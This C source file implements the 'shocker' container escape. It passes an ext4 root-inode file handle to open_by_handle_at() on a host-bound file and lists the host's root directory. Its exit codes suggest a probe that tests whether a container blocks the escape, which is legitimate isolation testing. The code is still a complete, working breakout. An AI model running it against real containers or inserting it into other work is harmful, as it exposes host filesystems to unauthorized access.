/* The "shocker" escape: open_by_handle_at() on any file of a filesystem with the handle of that
 * filesystem's root directory (ext4: type 1, inode 2, generation 0), then list it. Inside a
 * container whose /etc/hostname is bound from the host, that is the host's filesystem.
 * Prints "errno N" and exits 1 when refused; prints the root's entries and exits 0 when not. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>

int main(int argc, char **argv) {
    int mount_fd = open(argc > 1 ? argv[1] : "/etc/hostname", O_RDONLY);
    if (mount_fd < 0) {
        printf("open errno %d\n", errno);
        return 2;
    }
    struct {
        struct file_handle fh;
        unsigned char bytes[8];
    } h;
    unsigned int ino = 2, gen = 0;
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1;
    memcpy(h.fh.f_handle, &ino, 4);
    memcpy(h.fh.f_handle + 4, &gen, 4);
    int fd = open_by_handle_at(mount_fd, &h.fh, O_RDONLY | O_DIRECTORY);
    if (fd < 0) {
        printf("errno %d\n", errno);
        return 1;
    }
    DIR *dir = fdopendir(fd);
    struct dirent *entry;
    while (dir && (entry = readdir(dir)) != NULL)
        if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, ".."))
            printf("%s\n", entry->d_name);
    return 0;
}
